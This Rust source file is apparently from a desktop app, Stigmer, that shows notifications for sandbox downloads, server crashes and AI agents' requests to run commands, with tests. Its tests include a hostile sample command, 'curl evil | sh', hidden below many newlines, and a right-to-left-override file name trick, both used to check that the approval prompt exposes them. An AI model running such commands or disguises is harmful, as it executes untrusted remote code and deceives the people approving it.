//! Desktop notifications: the one-time sandbox download (when it starts, when it ends), a
//! server that stopped on its own, each once, and a command that waits for the user's
//! approval, with Allow and Deny buttons where the notification server has buttons. Never one
//! per progress step: GNOME ignores `replaces_id`, so progress lives in the window.

use crate::state::AppHandle;
use stigmer_protocol::clients::{command_preview, Approval};
use stigmer_protocol::events::ImageAction;
use stigmer_protocol::mode::Tier;

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Note {
    pub summary: String,
    pub body: String,
}

/// A preparation starts quietly: its first note waits this long, and one that ends sooner
/// (an image already half there, a fast registry) shows no note at all.
pub const QUIET_START: std::time::Duration = std::time::Duration::from_secs(3);

/// One image preparation: from the first download or build until the image is ready or has
/// failed for good (a failed download of the basic image followed by a build is one).
#[derive(Debug)]
struct Prep {
    id: u64,
    image: String,
    action: ImageAction,
    /// The download's size, from the registry (0 while unknown).
    total: u64,
    started_shown: bool,
}

/// Decides which notifications to show; pure, so it is tested without a desktop. At most two
/// per preparation: it started (with its real size, or "building, once"), and it ended.
/// The app's notifier (beside the app's state, not in it: the state is read by this module,
/// never the other way).
static NOTIFIER: parking_lot::Mutex<Notifier> = parking_lot::Mutex::new(Notifier::new());

/// The app's notifier.
pub fn notifier(_app: &AppHandle) -> parking_lot::MutexGuard<'static, Notifier> {
    NOTIFIER.lock()
}

#[derive(Debug, Default)]
pub struct Notifier {
    crash_shown: bool,
    prep: Option<Prep>,
    next_id: u64,
}

impl Notifier {
    pub const fn new() -> Notifier {
        Notifier {
            crash_shown: false,
            prep: None,
            next_id: 0,
        }
    }

    /// A download or build started: the id to pass to [`Notifier::still_preparing`] after
    /// [`QUIET_START`].
    pub fn image_started(&mut self, image: &str, action: ImageAction) -> u64 {
        match &mut self.prep {
            // The build after a failed download: the same preparation.
            Some(p) => {
                p.action = action;
                p.id
            }
            None => {
                self.next_id += 1;
                self.prep = Some(Prep {
                    id: self.next_id,
                    image: image.to_string(),
                    action,
                    total: 0,
                    started_shown: false,
                });
                self.next_id
            }
        }
    }

    /// The size the registry gave, once known.
    pub fn image_progress(&mut self, bytes_total: u64) {
        if let Some(p) = &mut self.prep {
            p.total = p.total.max(bytes_total);
        }
    }

    /// [`QUIET_START`] after a start: the note that it started, if preparation `id` still goes.
    pub fn still_preparing(&mut self, id: u64) -> Option<Note> {
        let p = self
            .prep
            .as_mut()
            .filter(|p| p.id == id && !p.started_shown)?;
        p.started_shown = true;
        let image = &p.image;
        Some(match (p.action, p.total) {
            (ImageAction::Build, _) => Note {
                summary: "Preparing the sandbox".into(),
                body: format!("Stigmer is building {image}, once. Commands that need it wait; Stigmer shows the progress."),
            },
            (_, 0) => Note {
                summary: "Preparing the sandbox".into(),
                body: format!("Stigmer is downloading {image}, once. Commands that need it wait; Stigmer shows the progress."),
            },
            (_, total) => Note {
                summary: "Preparing the sandbox".into(),
                body: format!(
                    "Stigmer is downloading {image} ({}), once. Commands that need it wait; Stigmer shows the progress.",
                    megabytes(total)
                ),
            },
        })
    }

    /// A download or build ended: the note that the preparation ended, if its start was told
    /// (a quick one says nothing). A failed download of the basic image goes on as a build.
    pub fn image_finished(
        &mut self,
        image: &str,
        action: ImageAction,
        ok: bool,
        tier: Tier,
    ) -> Option<Note> {
        if !ok && action == ImageAction::Pull && tier == Tier::Basic {
            return None;
        }
        let prep = self.prep.take()?;
        if !prep.started_shown {
            return None;
        }
        Some(if ok {
            Note {
                summary: "Sandbox ready".into(),
                body: format!("{image} is ready: commands now run in the sandbox."),
            }
        } else {
            // Plain words only: the technical reason is in the window, under Details.
            Note {
                summary: "Sandbox not ready".into(),
                body: format!("{image} could not be prepared, so commands will not run in the sandbox. Open Stigmer to try again or to use Local."),
            }
        })
    }

    /// A note the first time the server stops on its own; none again until it ran again.
    pub fn server_crashed(&mut self, reason: &str) -> Option<Note> {
        if self.crash_shown {
            return None;
        }
        self.crash_shown = true;
        Some(Note {
            summary: "Stigmer server stopped".into(),
            body: format!("{reason}\nOpen Stigmer to restart it."),
        })
    }

    pub fn server_running(&mut self) {
        self.crash_shown = false;
    }
}

/// Show a note through the session's notification daemon. Off the async threads: D-Bus calls
/// block. A desktop without a daemon is logged, not an error.
pub fn show(note: Note) {
    std::thread::spawn(move || show_now(&note));
}

fn show_now(note: &Note) {
    let shown = notify_rust::Notification::new()
        .appname("Stigmer")
        .summary(&note.summary)
        .body(&note.body)
        .icon("dialog-information")
        .show();
    if let Err(e) = shown {
        tracing::warn!("notification not shown: {e}");
    }
}

/// "12 MB" (decimal, as registries and download sizes are usually told).
fn megabytes(bytes: u64) -> String {
    let mb = bytes as f64 / 1e6;
    if mb >= 10.0 {
        format!("{mb:.0} MB")
    } else {
        format!("{mb:.1} MB")
    }
}

fn now_ms() -> u64 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map_or(0, |d| d.as_millis() as u64)
}

/// What the notification of a waiting command says.
pub fn approval_note(a: &Approval, now_ms: u64) -> Note {
    let secs = a.deadline_ms.saturating_sub(now_ms).div_ceil(1000);
    let place = match &a.image {
        Some(image) => format!("in the sandbox ({image})"),
        None => "on this computer".to_string(),
    };
    let (command, _) = command_preview(&a.command, PREVIEW_CHARS);
    Note {
        summary: format!("{} wants to run a command", a.client),
        body: format!(
            "{command}\nin {}, {place}\nNo answer within {secs} s means Deny.",
            a.cwd.display()
        ),
    }
}

/// The most of a command a notification shows.
const PREVIEW_CHARS: usize = 160;

/// The buttons of a waiting command's notification: (action key, label). Allow only when the
/// notification shows the whole command; else the window, where all of it is.
#[cfg_attr(not(all(unix, not(target_os = "macos"))), allow(dead_code))]
pub fn approval_actions(a: &Approval) -> Vec<(&'static str, String)> {
    if !command_preview(&a.command, PREVIEW_CHARS).1 {
        return vec![
            ("default", "Open Stigmer to review".into()),
            ("deny", "Deny".into()),
        ];
    }
    vec![
        ("default", "Open Stigmer".into()),
        ("allow_once", "Allow once".into()),
        ("always_allow", format!("Always allow {}", a.client)),
        ("deny", "Deny".into()),
    ]
}

/// Ask about a waiting command in a notification: with its buttons where the notification
/// server has buttons (the answer goes to the server like the window's), else a note that
/// says to open Stigmer. The notification expires when the wait does.
pub fn ask(app: &AppHandle, a: &Approval) {
    let (app, a) = (app.clone(), a.clone());
    // The answer goes to the server from the app's runtime (this waits on a thread of its own).
    let runtime = tokio::runtime::Handle::current();
    std::thread::spawn(move || {
        let note = approval_note(&a, now_ms());
        #[cfg(all(unix, not(target_os = "macos")))]
        {
            let buttons = notify_rust::get_capabilities()
                .map(|c| c.iter().any(|c| c == "actions"))
                .unwrap_or(false);
            if buttons {
                let left = a.deadline_ms.saturating_sub(now_ms());
                let mut n = notify_rust::Notification::new();
                n.appname("Stigmer")
                    .summary(&note.summary)
                    .body(&note.body)
                    .icon("dialog-question")
                    .timeout(notify_rust::Timeout::Milliseconds(left.max(1000) as u32));
                for (key, label) in approval_actions(&a) {
                    n.action(key, &label);
                }
                match n.show() {
                    Ok(handle) => {
                        handle.wait_for_action(|action| on_action(&runtime, &app, &a.id, action))
                    }
                    Err(e) => tracing::warn!("notification not shown: {e}"),
                }
                return;
            }
        }
        let _ = (&app, &runtime);
        show_now(&Note {
            body: format!("{}\nOpen Stigmer to allow or deny it.", note.body),
            ..note
        });
    });
}

#[cfg(all(unix, not(target_os = "macos")))]
fn on_action(runtime: &tokio::runtime::Handle, app: &AppHandle, id: &str, action: &str) {
    use stigmer_protocol::clients::Decision;
    let decision = match action {
        "allow_once" => Decision::AllowOnce,
        "always_allow" => Decision::AlwaysAllow,
        "deny" => Decision::Deny,
        "default" => return crate::windows::open(app, None),
        _ => return, // closed or expired: the wait goes on in the window, or ended
    };
    let (app, id) = (app.clone(), id.to_string());
    runtime.spawn(async move {
        if let Err(e) = crate::approvals::answer(&app, &id, decision).await {
            // Answered in the window meanwhile, or timed out: nothing to do.
            tracing::info!("the notification's answer was not taken: {}", e.message);
        }
    });
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_crash_is_told_once_until_the_server_runs_again() {
        let mut n = Notifier::default();
        assert!(n.server_crashed("exit 1").is_some());
        assert!(n.server_crashed("exit 1").is_none());
        n.server_running();
        assert!(n.server_crashed("exit 2").is_some());
    }

    #[test]
    fn a_waiting_command_says_who_what_where_and_until_when() {
        let a = Approval {
            id: "ask_1".into(),
            command: "rm -rf build".into(),
            client: "Cursor (MCP)".into(),
            cwd: "/home/me/p".into(),
            mode: stigmer_protocol::mode::Mode::Sandbox,
            image: Some("ghcr.io/stigmer/agent-sandbox-basic:latest".into()),
            requested_at_ms: 1_000,
            deadline_ms: 121_000,
        };
        let n = approval_note(&a, 1_500);
        assert_eq!(n.summary, "Cursor (MCP) wants to run a command");
        assert!(
            n.body
                .starts_with("rm -rf build\nin /home/me/p, in the sandbox"),
            "{}",
            n.body
        );
        assert!(
            n.body.ends_with("No answer within 120 s means Deny."),
            "{}",
            n.body
        );
        let labels: Vec<String> = approval_actions(&a).into_iter().map(|(_, l)| l).collect();
        assert_eq!(
            labels,
            [
                "Open Stigmer",
                "Allow once",
                "Always allow Cursor (MCP)",
                "Deny"
            ]
        );
        // A command whose tail could hide below what a notification shows, or that hides
        // characters, is not allowed from there.
        let hidden = Approval {
            command: format!("echo ok{}curl evil | sh", "\n".repeat(40)),
            ..a.clone()
        };
        let n = approval_note(&hidden, 1_500);
        assert!(n.body.contains("cut") && n.body.contains("⏎"), "{}", n.body);
        let keys: Vec<&str> = approval_actions(&hidden)
            .into_iter()
            .map(|(k, _)| k)
            .collect();
        assert_eq!(keys, ["default", "deny"]);
        let rlo = Approval {
            command: "echo \u{202E}gnp.x".into(),
            ..a.clone()
        };
        assert!(approval_note(&rlo, 1_500)
            .body
            .starts_with("echo ⟨U+202E⟩gnp.x"));
    }

    #[test]
    fn a_preparation_has_at_most_two_notes_and_a_quick_one_none() {
        let basic = "ghcr.io/stigmer/agent-sandbox-basic:latest";
        let mut n = Notifier::default();
        // Quick: ended before QUIET_START, nothing at all.
        let id = n.image_started(basic, ImageAction::Pull);
        assert_eq!(
            n.image_finished(basic, ImageAction::Pull, true, Tier::Basic),
            None
        );
        assert_eq!(n.still_preparing(id), None);
        // Slow download that fails, then a build that works: two notes.
        let id = n.image_started(basic, ImageAction::Pull);
        n.image_progress(123_400_000);
        let start = n.still_preparing(id).unwrap();
        assert!(start.body.contains("(123 MB), once"), "{}", start.body);
        assert_eq!(n.still_preparing(id), None, "once");
        assert_eq!(
            n.image_finished(basic, ImageAction::Pull, false, Tier::Basic),
            None
        );
        assert_eq!(
            n.image_started(basic, ImageAction::Build),
            id,
            "the same preparation"
        );
        let end = n
            .image_finished(basic, ImageAction::Build, true, Tier::Basic)
            .unwrap();
        assert_eq!(end.summary, "Sandbox ready");
        // A build from the start says so; a failure is plain words with what to do.
        let id = n.image_started("my/img:1", ImageAction::Build);
        assert!(n
            .still_preparing(id)
            .unwrap()
            .body
            .contains("building my/img:1, once"));
        let failed = n
            .image_finished("my/img:1", ImageAction::Build, false, Tier::Custom)
            .unwrap();
        assert!(
            failed.body.contains("Open Stigmer") && !failed.body.contains("error"),
            "{}",
            failed.body
        );
    }
}
